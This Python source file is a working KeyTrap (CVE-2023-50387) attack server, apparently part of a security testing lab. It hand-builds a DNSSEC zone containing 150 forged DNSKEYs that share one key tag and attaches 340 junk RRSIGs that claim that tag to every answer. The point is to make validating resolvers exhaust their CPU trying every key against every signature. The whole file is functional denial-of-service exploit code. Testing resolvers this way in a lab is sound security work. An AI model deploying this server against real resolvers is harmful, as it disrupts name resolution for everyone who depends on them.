#!/usr/bin/python3
"""A name server of a zone that is a trap for validators (KeyTrap, CVE-2023-50387): `trap_server.py ZONE FOLDER ADDRESS...`

The zone's DNSKEY set is genuine: one key of it matches the DS, and signs the set. Beside it lie many keys with the same key tag,
and every other answer carries many signatures that claim this tag: a validator that tries each key with each signature computes
tens of thousands of signatures for one answer, and none fits. Some sets have one genuine signature, valid between instants of the
lab's choice: by them the lab sees that the chain to the zone holds, and what a signature is worth whose time is over.

make_trap() writes keys and signatures into FOLDER and returns the DS; the server then only repeats them. Octets are put together
here by hand (RFC 1035 4, 4034 2 and 3), because no DNS library makes such a zone.
"""
import hashlib
import json
import random
import socket
import socketserver
import struct
import sys
import threading
import time
from pathlib import Path

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from lab.hostile.certificate import openssl  # noqa: E402

KEYS, SIGNATURES = 150, 340
MODULUS = 128  # octets: 1024 bits
TTL = 5
A, NS, SOA, MX, TXT, AAAA, TLSA, RRSIG, DNSKEY = 1, 2, 6, 15, 16, 28, 52, 46, 48
RSASHA256 = 8


def wire(name: str) -> bytes:
    return b"".join(bytes([len(label)]) + label.encode() for label in name.rstrip(".").split(".") if label) + b"\0"


def key_tag(rdata: bytes) -> int:
    """RFC 4034, appendix B."""
    total = sum(octet << 8 if not at % 2 else octet for at, octet in enumerate(rdata))
    return (total + (total >> 16)) & 0xFFFF


def colliding(tag: int, dice: random.Random) -> bytes:
    """DNSKEY data with a modulus nobody has the factors of, and this tag."""
    while True:
        modulus = bytearray(dice.randbytes(MODULUS))
        modulus[0] |= 0x80
        modulus[-1] |= 1
        modulus[10:12] = b"\0\0"
        head = struct.pack("!HBB", 257, 3, RSASHA256) + b"\x03\x01\0\x01"
        modulus[10:12] = struct.pack("!H", (tag - key_tag(head + bytes(modulus))) % 0xFFFF)
        if key_tag(head + bytes(modulus)) == tag:
            return head + bytes(modulus)


def rrsig_head(covered: int, owner: str, zone: str, tag: int, expires: int = 86400) -> bytes:
    """Signed ten hours before it `expires`, in seconds from now."""
    end, labels = int(time.time()) + expires, len(owner.rstrip(".").split("."))
    return struct.pack("!HBBIIIH", covered, RSASHA256, labels, TTL, end, end - max(36000, expires + 3600), tag) + wire(zone)


def record(owner: str | None, kind: int, rdata: bytes) -> bytes:
    """Without owner, that of the question, by a pointer to it."""
    return (wire(owner) if owner else b"\xc0\x0c") + struct.pack("!HHIH", kind, 1, TTL, len(rdata)) + rdata


def signed(head: bytes, records: list[bytes], key: Path) -> bytes:
    """RRSIG data over the set (RFC 4034 3.1.8.1)."""
    return head + openssl("dgst", "-sha256", "-sign", str(key), input=head + b"".join(sorted(records)))


def make_trap(zone: str, folder: Path, genuine_sets: list[tuple[str, int, list[bytes], int]]) -> str:
    """Writes what the server repeats; returns the data of the zone's DS record. `genuine_sets`: owner, type, data, and when the
    one good signature over them expires, in seconds from now."""
    folder.mkdir(parents=True, exist_ok=True)
    key, dice = folder / "trap.key", random.Random(1)
    openssl("genpkey", "-algorithm", "RSA", "-pkeyopt", f"rsa_keygen_bits:{MODULUS * 8}", "-out", str(key))
    modulus = bytes.fromhex(openssl("rsa", "-in", str(key), "-noout", "-modulus").decode().strip().split("=")[1])
    genuine = struct.pack("!HBB", 257, 3, RSASHA256) + b"\x03\x01\0\x01" + modulus
    tag = key_tag(genuine)
    keys = [genuine, *(colliding(tag, dice) for _ in range(KEYS))]
    answers = {}
    for owner, kind, data, expires in [(zone, DNSKEY, keys, 86400), *genuine_sets]:
        records = [record(owner, kind, rdata) for rdata in data]
        proof = record(None, RRSIG, signed(rrsig_head(kind, owner, zone, tag, expires), records, key))
        answers[f"{owner} {kind}"] = [len(records) + 1, (b"".join(record(None, kind, rdata) for rdata in data) + proof).hex()]
    (folder / "trap.json").write_text(json.dumps({"tag": tag, "answers": answers}))
    return f"{tag} {RSASHA256} 2 {hashlib.sha256(wire(zone) + genuine).hexdigest()}"


class Trap:
    """answer(query, udp) -> reply. A question of any name and type has an answer."""

    def __init__(self, zone: str, folder: Path, address: str):
        self.zone, self.address = zone, address
        stored = json.loads((folder / "trap.json").read_text())
        self.tag, self.answers = stored["tag"], {tuple(key.split(" ")): (count, bytes.fromhex(octets)) for key, (count, octets) in stored["answers"].items()}
        dice = random.Random(2)
        self.junk = [dice.randbytes(MODULUS) for _ in range(SIGNATURES)]

    def data(self, name: str, kind: int) -> bytes:
        """Mail is led to .106, where nobody may connect."""
        server, host = wire(f"ns1.{self.zone}"), wire(f"mx.{self.zone}")
        address = self.address if name.startswith("ns1.") else "10.77.0.106"
        return {A: socket.inet_aton(address), AAAA: socket.inet_pton(socket.AF_INET6, "fd77::106"), NS: server, MX: b"\0\x0a" + host,
                SOA: server + server + struct.pack("!5I", 1, 3600, 600, 86400, TTL), TLSA: b"\x03\x01\x01" + b"\xd0" * 32}.get(kind, b"\x02no")

    def records(self, name: str, kind: int) -> tuple[int, bytes]:
        """How many, and their octets. Around names with genuine sets nothing else exists: not even a trap."""
        if (name, str(kind)) in self.answers:
            return self.answers[name, str(kind)]
        if name != self.zone and any(owner == name or owner.endswith("." + name) for owner, _ in self.answers):
            return 0, b""
        head = rrsig_head(kind, name, self.zone, self.tag)
        return SIGNATURES + 1, record(None, kind, self.data(name, kind)) + b"".join(record(None, RRSIG, head + junk) for junk in self.junk)

    def answer(self, query: bytes, udp: bool) -> bytes:
        at, labels = 12, []
        while query[at]:
            labels.append(query[at + 1:at + 1 + query[at]].decode("latin-1"))
            at += 1 + query[at]
        question = query[12:at + 5]
        count, records = self.records(".".join(labels).lower() + ".", struct.unpack("!H", query[at + 1:at + 3])[0])
        opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0x8000, 0)
        if udp and len(records) > 1000:
            return query[:2] + struct.pack("!HHHHH", 0x8600, 1, 0, 0, 1) + question + opt
        return query[:2] + struct.pack("!HHHHH", 0x8400, 1, count, 0, 1) + question + records + opt


def serve_udp(listener: socket.socket, trap: Trap) -> None:
    while True:
        query, peer = listener.recvfrom(4096)
        listener.sendto(trap.answer(query, True), peer)


class TcpHandler(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        while len(size := self.rfile.read(2)) == 2:
            answer = self.server.trap.answer(self.rfile.read(struct.unpack("!H", size)[0]), False)
            self.wfile.write(struct.pack("!H", len(answer)) + answer)


class TcpServer(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, address: str, trap: Trap):
        self.address_family = socket.AF_INET6 if ":" in address else socket.AF_INET
        self.trap = trap
        super().__init__((address, 53), TcpHandler)


def main() -> None:
    zone, folder, addresses = sys.argv[1], Path(sys.argv[2]), sys.argv[3:]
    trap = Trap(zone, folder, next(a for a in addresses if ":" not in a))
    for address in addresses:
        listener = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
        listener.bind((address, 53))
        threading.Thread(target=serve_udp, args=(listener, trap), daemon=True).start()
        threading.Thread(target=TcpServer(address, trap).serve_forever, daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main()
